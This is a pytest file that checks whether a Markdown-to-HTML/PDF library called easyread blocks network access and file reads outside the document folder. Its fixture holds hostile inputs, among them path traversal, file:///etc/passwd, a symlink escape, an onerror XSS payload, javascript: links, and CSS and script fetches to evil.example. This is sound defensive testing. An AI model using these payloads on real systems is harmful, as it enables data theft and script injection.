"""In-process proof that the library never reaches for the network or for files
outside the document folder, whatever the document asks for.

Cheaper than the subprocess suite, so it covers the public API directly:
``load`` -> ``check`` -> ``simplify`` -> ``render`` (HTML and PDF). Sockets
are replaced by a guard that records and refuses every connection or name
lookup; an audit hook (installed once, active only inside the guard) records
every file the process opens.
"""

from __future__ import annotations

import base64
import os
import re
import socket
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

import easyread
from easyread.errors import EasyreadError

_opened: list[str] | None = None


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _opened is not None and event == "open" and isinstance(args[0], str | bytes):
        _opened.append(os.path.realpath(os.fsdecode(args[0])))


sys.addaudithook(_audit)


class NetworkAttempt(AssertionError):
    """Raised by the socket guard."""


@contextmanager
def guarded(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, list[str]]]:
    """Refuse and record network use; record files opened."""
    global _opened
    seen: dict[str, list[str]] = {"network": [], "opened": []}

    def refuse(name: str) -> Any:
        def guard(*args: Any, **kwargs: Any) -> Any:
            seen["network"].append(f"{name}{args[:2]!r}")
            raise NetworkAttempt(f"network access: {name}")

        return guard

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
    _opened = seen["opened"]
    try:
        yield seen
    finally:
        _opened = None


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="
)
HOSTILE = """---
lang: sl
title: Vabilo na kavo
template: invitation
images:
  title: ../skrivno/slika.png
  when: http://example.com/ura.png
---
# Vabilo na kavo

![Dobra](kava.png)
Vabimo vas na kavo v petek, 15. maja 2026, ob 10. uri.

![Splet](http://example.com/slika.png)

![Varni splet](https://example.com/slika.png)

![Brez sheme](//example.com/slika.png)

![Geslo](file:///etc/passwd)

![Skrivnost](../skrivno/slika.png)

![Povezava ven](povezava.png)

<img src="https://example.com/sled.gif" onerror="alert(1)">

<style>@import url(https://evil.example/x.css);</style>

<script>fetch('https://evil.example/')</script>

[Klik](javascript:alert(1)) in [splet](https://www.knjiznica-ljutomer.si/).

Pišite na info@example.com ali pokličite 02 584 12 34.
"""


@pytest.fixture
def hostile_doc(tmp_path: Path) -> Path:
    doc = tmp_path / "doc"
    doc.mkdir()
    secret = tmp_path / "skrivno"
    secret.mkdir()
    (secret / "slika.png").write_bytes(PNG)
    (doc / "kava.png").write_bytes(PNG)
    (doc / "povezava.png").symlink_to(secret / "slika.png")
    path = doc / "vabilo.md"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def _outside(opened: list[str], doc: Path) -> list[str]:
    allowed = [
        os.path.realpath(p)
        for p in (
            doc.parent,
            Path(easyread.__file__).parent,
            sys.prefix,
            sys.base_prefix,
            "/usr/share",
            "/usr/lib",
            "/etc/mime.types",
            "/etc/fonts",
            "/dev/null",
        )
    ]
    tmp = os.path.realpath(tempfile.gettempdir())
    return sorted(
        {
            p
            for p in opened
            if not any(p == a or p.startswith(a + os.sep) for a in allowed)
            # tempfile probes the temporary folder; WeasyPrint makes tmpXXXX folders
            and not (
                p == tmp
                or p.startswith(
                    (os.path.join(tmp, "tmp"), os.path.join(tmp, "weasyprint-"))
                )
            )
        }
    )


def test_load_and_check_never_use_the_network(
    hostile_doc: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with guarded(monkeypatch) as seen:
        doc = easyread.load(hostile_doc)
        findings = easyread.check(doc)
    assert not seen["network"]
    assert findings, "the hostile document has problems the checker should see"
    assert not _outside(seen["opened"], hostile_doc)
    assert not any("skrivno" in p for p in seen["opened"])


def test_simplify_never_uses_the_network(
    hostile_doc: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with guarded(monkeypatch) as seen:
        result = easyread.simplify(easyread.load(hostile_doc))
    assert not seen["network"]
    # raw HTML stays text in the draft: escaped, so Markdown shows it literally
    assert not re.search(r"(?<!\\)<script", result.markdown, re.IGNORECASE)
    assert not any("skrivno" in p for p in seen["opened"])


def test_html_never_uses_the_network_nor_reads_outside(
    hostile_doc: Path, monkeypatch: pytest.MonkeyPatch, hostile_harness: Any
) -> None:
    with guarded(monkeypatch) as seen:
        doc = easyread.load(hostile_doc)
        html = easyread.render(doc, "html")
    text = html.decode("utf-8") if isinstance(html, bytes) else html
    assert not seen["network"]
    assert not _outside(seen["opened"], hostile_doc)
    assert not any("skrivno" in p for p in seen["opened"])
    assert not hostile_harness.html_problems(text)
    assert not hostile_harness.remote_references(text)
    # the good picture is there, embedded
    assert "data:image/png;base64," in text


@pytest.mark.pdf
def test_pdf_never_uses_the_network_nor_reads_outside(
    hostile_doc: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with guarded(monkeypatch) as seen:
        doc = easyread.load(hostile_doc)
        pdf = easyread.render(doc, "pdf")
    assert not seen["network"]
    assert not _outside(seen["opened"], hostile_doc)
    assert not any("skrivno" in p for p in seen["opened"])
    assert bytes(pdf).startswith(b"%PDF-")


@pytest.mark.pdf
def test_the_fetcher_refuses_everything_but_local_files_and_data(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from easyread.render.fetcher import make_fetcher

    (tmp_path / "ok.png").write_bytes(PNG)
    fetch = make_fetcher([tmp_path])
    urls = [
        "http://example.com/x.png",
        "https://example.com/x.png",
        "ftp://example.com/x.png",
        "//example.com/x.png",
        "file://example.com/etc/passwd",
        "file:///etc/passwd",
        (tmp_path / ".." / "x.png").as_uri(),
        "data:text/html;base64,PHNjcmlwdD4=",
        "javascript:alert(1)",
    ]
    with guarded(monkeypatch) as seen:
        for url in urls:
            with pytest.raises(Exception):  # noqa: B017 - WeasyPrint sees any error
                fetch.fetch(url)
        ok = fetch.fetch((tmp_path / "ok.png").as_uri())
    assert not seen["network"]
    assert ok is not None
    assert not any(p == "/etc/passwd" for p in seen["opened"])


def test_errors_are_easyread_errors_not_crashes(tmp_path: Path) -> None:
    """Bad bytes through the public API raise EasyreadError (exit 2), nothing else."""
    for data in (b"\x00\x01binary", b"---\nlang: sl\n", b"---\nlang: xx\n---\nx\n"):
        path = tmp_path / "x.md"
        path.write_bytes(data)
        with pytest.raises(EasyreadError) as info:
            easyread.load(path)
        assert info.value.exit_code == 2 and str(path) in str(info.value)
